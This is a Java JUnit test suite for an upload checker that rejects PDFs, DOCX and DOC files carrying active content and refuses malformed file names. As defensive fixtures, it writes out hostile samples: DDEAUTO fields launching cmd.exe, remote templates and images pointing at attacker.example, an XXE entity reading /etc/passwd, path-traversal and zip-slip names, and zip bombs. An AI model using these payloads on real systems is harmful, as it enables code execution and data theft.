package dev.attest.documents;

import static dev.attest.documents.DocumentRefusedException.Reason.INVALID;
import static dev.attest.documents.DocumentRefusedException.Reason.TOO_LARGE;
import static dev.attest.documents.DocumentRefusedException.Reason.UNSUPPORTED;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.Map;
import java.util.stream.Stream;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

import dev.attest.validation.InvalidInputException;

/** What may be stored, decided from the bytes: every refusal category of the document-check issue. */
class FileInspectionTests {

    static final long MAX = 10L * 1024 * 1024;
    final FileInspection inspection = new FileInspection(MAX, 100_000_000, 2000, 200L * 1024 * 1024, 100);

    @Test
    void whenEveryInspectionSlotIsTakenAFileIsRefusedAsBusyAndThenAcceptedAgain() {
        FileInspection busy = new FileInspection(MAX, 100_000_000, 2000, 200L * 1024 * 1024, 100);
        busy.slotWait = Duration.ofMillis(50);
        int slots = busy.slots.drainPermits();
        assertThat(slots).isGreaterThanOrEqualTo(2);
        assertThatThrownBy(() -> busy.inspect("bill.pdf", TestFiles.pdf()))
                .isInstanceOfSatisfying(DocumentRefusedException.class,
                        e -> assertThat(e.reason()).isEqualTo(DocumentRefusedException.Reason.BUSY))
                .hasMessageContaining("try again");
        busy.slots.release(slots);
        assertThat(busy.inspect("bill.pdf", TestFiles.pdf()).mediaType()).isEqualTo("application/pdf");
        assertThat(busy.slots.availablePermits()).isEqualTo(slots);
        assertThatThrownBy(() -> busy.inspect("bill.exe", TestFiles.pdf())).isInstanceOf(DocumentRefusedException.class);
        assertThat(busy.slots.availablePermits()).as("a refusal gives its slot back").isEqualTo(slots);
    }

    @Test
    void acceptsTheFiveTypesWhenContentAndExtensionAgree() {
        assertThat(inspection.inspect("id.png", TestFiles.png(800, 500)).mediaType()).isEqualTo("image/png");
        assertThat(inspection.inspect("id.JPG", TestFiles.jpeg(800, 500)).mediaType()).isEqualTo("image/jpeg");
        assertThat(inspection.inspect("id.jpeg", TestFiles.jpeg(80, 50)).width()).isEqualTo(80);
        assertThat(inspection.inspect("bill.pdf", TestFiles.pdf()).mediaType()).isEqualTo("application/pdf");
        assertThat(inspection.inspect("letter.docx", TestFiles.docx(false)).label()).isEqualTo("DOCX");
        assertThat(inspection.inspect("letter.doc", TestFiles.doc(false)).label()).isEqualTo("DOC");
    }

    /** Each family of active content, with what the refusal must say. */
    static Stream<Arguments> activeContent() {
        String dde = "<w:p><w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/></w:p>";
        String externalImage = TestFiles.rels("<Relationship Id=\"rId9\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/image\" Target=\"\\\\\\\\attacker.example\\\\share\\\\a.png\" "
                + "TargetMode=\" eXtErNaL \"/>");
        String remoteTemplate = TestFiles.rels("<Relationship Id=\"rId1\" Type=\"http://schemas.openxmlformats.org/"
                + "officeDocument/2006/relationships/attachedTemplate\" Target=\"https://attacker.example/t.dotm\" "
                + "TargetMode=\"External\"/>");
        String vbaTypes = TestFiles.CONTENT_TYPES.replace("</Types>", "<Override PartName=\"/word/fonts.dat\" "
                + "ContentType=\"application/vnd.ms-office.vbaProject\"/></Types>");
        return Stream.of(
                // PDF: every place an action can be, every kind of action that is not navigation
                Arguments.of("PDF: JavaScript open action", "bill.pdf", TestFiles.pdfWithJavaScript(),
                        "runs JavaScript (document OpenAction)"),
                Arguments.of("PDF: JavaScript in an object stream", "bill.pdf", TestFiles.compressedPdfWithJavaScript(),
                        "runs JavaScript (document OpenAction)"),
                Arguments.of("PDF: JavaScript name tree", "bill.pdf", TestFiles.pdfWithJavaScriptNameTree(),
                        "JavaScript"),
                Arguments.of("PDF: page action opening a file on a UNC path (GoToR)", "bill.pdf",
                        TestFiles.pdfWithRemoteGoTo(), "opens another file (GoToR) (page 1 additional action O)"),
                Arguments.of("PDF: link submitting a form", "bill.pdf", TestFiles.pdfWithSubmitForm(),
                        "submits a form to a server (SubmitForm) (page 1 annotation (Link) action)"),
                Arguments.of("PDF: script after a harmless action (Next chain)", "bill.pdf",
                        TestFiles.pdfWithScriptInNextChain(), "runs JavaScript"),
                Arguments.of("PDF: bookmark launching a program", "bill.pdf", TestFiles.pdfWithLaunchingBookmark(),
                        "launches a program or file (document bookmarks bookmark 'Open' action)"),
                Arguments.of("PDF: form field importing data", "bill.pdf", TestFiles.pdfWithImportDataField(),
                        "imports data from a file (ImportData)"),
                Arguments.of("PDF: launch action", "bill.pdf", TestFiles.pdfWithLaunchAction(), "launches a program"),
                Arguments.of("PDF: XFA form", "bill.pdf", TestFiles.pdfWithXfa(), "has an XFA form"),
                Arguments.of("PDF: embedded file", "bill.pdf", TestFiles.pdfWithEmbeddedFile(), "embedded file"),
                Arguments.of("PDF: named action other than a page move", "bill.pdf", TestFiles.pdfWithNamedPrintAction(),
                        "'Named' action"),
                Arguments.of("PDF: link to a file share", "bill.pdf", TestFiles.pdfWithFileUri(),
                        "not a web or mail address"),
                // DOCX: outside targets, fields, macro/ActiveX/OLE parts by content
                Arguments.of("DOCX: remote template", "letter.docx", TestFiles.docx(Map.of("word/settings.xml",
                        "<w:settings xmlns:w=\"" + TestFiles.W + "\"/>", "word/_rels/settings.xml.rels", remoteTemplate)),
                        "loads 'https://attacker.example/t.dotm' from outside the document (attachedTemplate"),
                Arguments.of("DOCX: external image, TargetMode in odd case and spaces", "letter.docx",
                        TestFiles.docx(Map.of("word/_rels/document.xml.rels", externalImage)), "from outside the document"),
                Arguments.of("DOCX: DDEAUTO field", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
                        TestFiles.body(dde))), "runs a DDE command (field 'DDEAUTO' in word/document.xml)"),
                Arguments.of("DOCX: DDEAUTO split across runs", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
                        TestFiles.body(TestFiles.splitField(" DD", "EAUTO c:\\\\x.exe ", "\\\\l")))),
                        "runs a DDE command (field 'DDEAUTO'"),
                Arguments.of("DOCX: quoted lower-case dde field in a footer", "letter.docx", TestFiles.docx(Map.of(
                        "word/footer1.xml", TestFiles.body(TestFiles.splitField("  \"dde\" cmd /c calc")))),
                        "runs a DDE command (field 'DDE' in word/footer1.xml)"),
                Arguments.of("DOCX: INCLUDEPICTURE field", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
                        TestFiles.body("<w:p><w:fldSimple w:instr=\"INCLUDEPICTURE &quot;http://attacker.example/a.png&quot;\"/></w:p>"))),
                        "loads content from outside the document (field 'INCLUDEPICTURE'"),
                Arguments.of("DOCX: field name computed by a nested field", "letter.docx", TestFiles.docx(Map.of(
                        "word/document.xml", TestFiles.body("<w:p><w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>"
                                + TestFiles.splitField("QUOTE DDEAUTO").substring(5)))),
                        "whose name another field computes"),
                Arguments.of("DOCX: renamed VBA part declared in UTF-16 content types", "letter.docx", TestFiles.docx(
                        Map.of("[Content_Types].xml", TestFiles.utf16(vbaTypes))), "declares macros"),
                Arguments.of("DOCX: VBA project renamed and undeclared, found by content", "letter.docx", TestFiles.docx(
                        Map.of("word/media/image7.png", TestFiles.doc(true))), "OLE2 compound file at 'word/media/image7.png'"),
                Arguments.of("DOCX: macro-enabled main part in UTF-16 content types", "letter.docx", TestFiles.docx(Map.of(
                        "[Content_Types].xml", TestFiles.utf16(TestFiles.CONTENT_TYPES.replace(
                                "wordprocessingml.document.main+xml", "macroEnabled.main+xml")))), "declares macros"),
                Arguments.of("DOCX: ActiveX control relationship", "letter.docx", TestFiles.docx(Map.of(
                        "word/_rels/document.xml.rels", TestFiles.rels("<Relationship Id=\"rId5\" Type=\"http://schemas."
                                + "openxmlformats.org/officeDocument/2006/relationships/control\" Target=\"activeX/activeX1.xml\"/>"))),
                        "part of type 'control'"),
                Arguments.of("DOCX: custom ribbon with callbacks", "letter.docx", TestFiles.docx(Map.of("customUI/customUI.xml",
                        "<customUI xmlns=\"http://schemas.microsoft.com/office/2006/01/customui\" onLoad=\"Go\"/>")),
                        "custom ribbon"),
                Arguments.of("DOCX: embedded package", "letter.docx", TestFiles.docx(Map.of("word/embeddings/a.bin",
                        TestFiles.docx(false))), "another archive"),
                Arguments.of("DOCX: DOCTYPE in a part", "letter.docx", TestFiles.docx(Map.of("word/document.xml",
                        "<?xml version=\"1.0\"?><!DOCTYPE d [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><d>&x;</d>")),
                        "DOCTYPE"),
                Arguments.of("DOCX: entry name escaping the package", "letter.docx", TestFiles.docx(Map.of("../evil.xml",
                        "<a/>")), "not a plain part name"),
                Arguments.of("DOCX: the same part twice (case differs)", "letter.docx", TestFiles.docx(Map.of(
                        "WORD/document.xml", TestFiles.body(dde))), "twice"),
                Arguments.of("DOCX: hyperlink to a file share", "letter.docx", TestFiles.docx(Map.of(
                        "word/_rels/document.xml.rels", TestFiles.rels("<Relationship Id=\"rId3\" Type=\"http://schemas."
                                + "openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
                                + "Target=\"file://attacker.example/s/x\" TargetMode=\"External\"/>"))),
                        "not a web or mail address"),
                Arguments.of("DOCX: VML picture loaded from a share", "letter.docx", TestFiles.docx(Map.of(
                        "word/document.xml", TestFiles.body("<w:p><w:r><w:pict><v:imagedata xmlns:v=\"urn:schemas-"
                                + "microsoft-com:vml\" src=\"\\\\\\\\attacker.example\\\\s\\\\a.png\"/></w:pict></w:r></w:p>"))),
                        "from outside the document"),
                // DOC (OLE2)
                Arguments.of("DOC: macro storage", "letter.doc", TestFiles.doc(true), "contains macros ('Macros')"),
                Arguments.of("DOC: VBA project deep down", "letter.doc", TestFiles.ole2(true, "MsoDataStore", "x",
                        "_VBA_PROJECT_CUR", "dir"), "contains macros"),
                Arguments.of("DOC: embedded objects", "letter.doc", TestFiles.ole2(true, "ObjectPool", "_1234", "\u0001Ole10Native"),
                        "contains embedded objects"),
                Arguments.of("DOC: any other OLE2 file named .doc", "letter.doc", TestFiles.ole2(false),
                        "not a Word document"),
                Arguments.of("DOC: a compound-file header with nothing behind it", "letter.doc", fakeOle2(),
                        "does not match its extension"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("activeContent")
    void refusesActiveContentNamingTheReason(String what, String fileName, byte[] bytes, String reason) {
        assertThatThrownBy(() -> inspection.inspect(fileName, bytes))
                .isInstanceOf(DocumentRefusedException.class)
                .hasMessageContaining(reason)
                .satisfies(e -> assertThat(((DocumentRefusedException) e).reason()).isEqualTo(UNSUPPORTED));
    }

    @Test
    void ordinaryLinksAndFieldsPassAndTheLinksAreListed() {
        InspectedFile pdf = inspection.inspect("statement.pdf", TestFiles.pdfWithWebLink());
        assertThat(pdf.links()).containsExactly("https://bank.example.com/contact");
        InspectedFile docx = inspection.inspect("letter.docx", TestFiles.docx(Map.of(
                "word/document.xml", TestFiles.body(TestFiles.splitField(" PA", "GE \\\\* MERGEFORMAT ")
                        + "<w:p><w:fldSimple w:instr=\" NUMPAGES \"/></w:p>"),
                "word/_rels/document.xml.rels", TestFiles.rels("<Relationship Id=\"rId3\" Type=\"http://schemas."
                        + "openxmlformats.org/officeDocument/2006/relationships/hyperlink\" "
                        + "Target=\"https://bank.example.com/\" TargetMode=\"External\"/><Relationship Id=\"rId4\" "
                        + "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles\" "
                        + "Target=\"styles.xml\"/>"),
                "word/styles.xml", "<w:styles xmlns:w=\"" + TestFiles.W + "\"/>",
                "word/media/image1.png", TestFiles.png(20, 20))));
        assertThat(docx.links()).containsExactly("https://bank.example.com/");
        assertThat(inspection.inspect("letter.docx", TestFiles.docx(Map.of("[Content_Types].xml",
                TestFiles.utf16(TestFiles.CONTENT_TYPES)))).label()).isEqualTo("DOCX");
        assertThat(inspection.inspect("letter.doc", TestFiles.ole2(true, "MsoDataStore", "item", "Properties")).label())
                .isEqualTo("DOC");
        assertThat(DocumentChecks.fileType(pdf).detail()).contains("links to 1 address: https://bank.example.com/contact");
    }

    @Test
    void pdfObjectStreamsAreParsedNotSearched() {
        byte[] pdf = TestFiles.compressedPdfWithJavaScript();
        assertThat(new String(pdf, StandardCharsets.ISO_8859_1)).contains("/ObjStm")
                .doesNotContain("JavaScript");
    }

    static byte[] fakeOle2() {
        byte[] bytes = new byte[4096];
        byte[] signature = {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A, (byte) 0xE1};
        System.arraycopy(signature, 0, bytes, 0, 8);
        return bytes;
    }

    static Stream<Arguments> badFileNames() {
        return Stream.of(
                Arguments.of("a traversal file name", "../../etc/passwd.pdf", "not a path"),
                Arguments.of("a Windows path", "C:\\Users\\x\\id.png", "not a path"),
                Arguments.of("a NUL character", "id\u0000.png", "NUL"),
                Arguments.of("an escape character", "id\u001B[31m.png", "control character (U+001B)"),
                Arguments.of("a trailing line break", "id.png\n", "control character (U+000A)"),
                Arguments.of("DEL", "id\u007F.png", "control character"),
                Arguments.of("a C1 control", "id\u0085.png", "control character"),
                Arguments.of("a line separator", "id\u2028.png", "control character"),
                Arguments.of("a right-to-left override", "gpj\u202E.exe.png", "direction-changing"),
                Arguments.of("a left-to-right isolate", "a\u2066b.png", "direction-changing"),
                Arguments.of("a lone surrogate", "id\uD800.png", "not text"),
                Arguments.of("no name", " ", "required"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("badFileNames")
    void aBadFileNameIsAnInvalidFieldNotAServerError(String what, String fileName, String problem) {
        assertThatThrownBy(() -> inspection.inspect(fileName, TestFiles.png(10, 10)))
                .isInstanceOfSatisfying(InvalidInputException.class, e -> {
                    assertThat(e.errors()).hasSize(1);
                    assertThat(e.errors().get(0).field()).isEqualTo("file");
                    assertThat(e.errors().get(0).message()).contains(problem);
                });
    }

    static Stream<Arguments> refused() {
        return Stream.of(
                Arguments.of("an executable renamed .pdf", "invoice.pdf", TestFiles.windowsExecutable(), UNSUPPORTED),
                Arguments.of("HTML renamed .jpg", "photo.jpg", TestFiles.html(), UNSUPPORTED),
                Arguments.of("a PNG named .jpg", "photo.jpg", TestFiles.png(50, 50), UNSUPPORTED),
                Arguments.of("a zip bomb renamed .docx", "chart.docx", TestFiles.zipBomb(120), UNSUPPORTED),
                Arguments.of("an archive with too many entries", "chart.docx", TestFiles.zipWithEntries(2100), UNSUPPORTED),
                Arguments.of("a PDF with JavaScript", "bill.pdf", TestFiles.pdfWithJavaScript(), UNSUPPORTED),
                Arguments.of("a PDF with a launch action", "bill.pdf", TestFiles.pdfWithLaunchAction(), UNSUPPORTED),
                Arguments.of("a PDF with an embedded file", "bill.pdf", TestFiles.pdfWithEmbeddedFile(), UNSUPPORTED),
                Arguments.of("a DOCX with a macro part", "letter.docx", TestFiles.docx(true), UNSUPPORTED),
                Arguments.of("a DOC with macros", "letter.doc", TestFiles.doc(true), UNSUPPORTED),
                Arguments.of("a DOCX that is a DOC", "letter.docx", TestFiles.doc(false), UNSUPPORTED),
                Arguments.of("a pixel-flood PNG", "id.png", TestFiles.pixelFloodPng(100_000, 100_000), UNSUPPORTED),
                Arguments.of("a GIF", "id.gif", new byte[] {'G', 'I', 'F', '8', '9', 'a', 1, 0, 1, 0}, UNSUPPORTED),
                Arguments.of("a file without extension", "passport", TestFiles.png(10, 10), UNSUPPORTED),
                Arguments.of("an empty file", "id.png", new byte[0], INVALID),
                Arguments.of("one byte over the limit", "big.pdf", new byte[(int) MAX + 1], TOO_LARGE));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refused")
    void refusesHostileAndWrongFiles(String what, String fileName, byte[] bytes, DocumentRefusedException.Reason reason) {
        assertThatThrownBy(() -> inspection.inspect(fileName, bytes))
                .isInstanceOf(DocumentRefusedException.class)
                .satisfies(e -> assertThat(((DocumentRefusedException) e).reason()).isEqualTo(reason));
    }

    @Test
    void theLimitItselfIsAccepted() {
        byte[] exactly = new byte[(int) MAX];
        byte[] pdf = TestFiles.pdf();
        System.arraycopy(pdf, 0, exactly, 0, pdf.length);
        assertThat(inspection.inspect("big.pdf", exactly).sizeBytes()).isEqualTo(MAX);
    }

    @Test
    void screenshotsAreFlaggedNotRefused() {
        InspectedFile shot = inspection.inspect("shot.png", TestFiles.pngWithSoftware(1920, 1080, "gnome-screenshot"));
        assertThat(shot.screenshotHints()).hasSize(2);
        assertThat(inspection.inspect("photo.png", TestFiles.png(1003, 611)).screenshotHints()).isEmpty();
    }

    @Test
    void refusalMessagesSayWhy() {
        assertThatThrownBy(() -> inspection.inspect("invoice.pdf", TestFiles.windowsExecutable()))
                .hasMessageContaining("does not match its extension");
        assertThatThrownBy(() -> inspection.inspect("bill.pdf", TestFiles.pdfWithJavaScript()))
                .hasMessage("The PDF runs JavaScript (document OpenAction); print it to a plain PDF and upload that");
        assertThatThrownBy(() -> inspection.inspect("chart.docx", TestFiles.zipBomb(120)))
                .hasMessageContaining("compressed");
        assertThatThrownBy(() -> inspection.inspect("id.png", TestFiles.pixelFloodPng(100_000, 100_000)))
                .hasMessageContaining("100000×100000");
    }
}
